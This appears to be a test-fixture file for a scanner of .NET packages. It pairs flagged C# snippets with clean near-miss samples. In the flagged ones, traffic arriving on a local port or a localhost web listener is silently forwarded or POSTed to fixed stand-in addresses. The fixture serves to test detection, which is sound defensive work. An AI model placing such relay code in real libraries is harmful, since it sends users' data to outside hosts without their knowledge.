import { csharp, type CSharp, type Examples } from '../../../tests/kit/examples.js';

/** Nobody sets it: what is below is read, never run. */
const never = 'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return;';

function library(text: string): Record<string, CSharp> {
  return {
    'lib/net10.0/Fixture.dll': csharp(`using System;
using System.Net;
using System.Net.Http;
using System.Net.Sockets;
using System.Threading.Tasks;
${text}`),
  };
}

const listen = `public static async Task Listen(string host)
    {
        ${never}
        var listener = new TcpListener(IPAddress.Loopback, 7152);
        listener.Start();
        using var near = await listener.AcceptTcpClientAsync();
        await Forward(near, host);
    }`;

const forward = (
  host: string,
): string => `private static async Task Forward(TcpClient near, string host)
    {
        using var far = new TcpClient();
        await far.ConnectAsync(${host}, 443);
        await near.GetStream().CopyToAsync(far.GetStream());
    }`;

export const examples: Examples = {
  flagged: [
    {
      name: 'local-port',
      about: 'Whatever connects to a local port is passed on to a fixed address.',
      files: library(`internal static class Stage
{
    ${listen}
    ${forward('"203.0.113.71"')}
}`),
    },
    {
      name: 'web-listener',
      about: 'Requests to a local web server are posted to a fixed address.',
      files: library(`internal static class Stage
{
    public static async Task Listen()
    {
        ${never}
        var listener = new HttpListener();
        listener.Prefixes.Add("http://localhost:7152/");
        listener.Start();
        var near = await listener.GetContextAsync();
        await new HttpClient().PostAsync("http://192.0.2.10/in", new StreamContent(near.Request.InputStream));
    }
}`),
    },
  ],
  clean: [
    {
      name: 'tunnel',
      about: 'The same, to where the caller says.',
      nearMiss: true,
      files: library(`public static class Tunnel
{
    ${listen}
    ${forward('host')}
}`),
    },
    {
      name: 'server',
      about: 'A server that listens on all addresses, and connects nowhere.',
      nearMiss: true,
      files: library(`public static class Server
{
    public static async Task<TcpClient> Accept()
    {
        var listener = new TcpListener(IPAddress.Parse("0.0.0.0"), 8080);
        listener.Start();
        return await listener.AcceptTcpClientAsync();
    }
}`),
    },
  ],
};
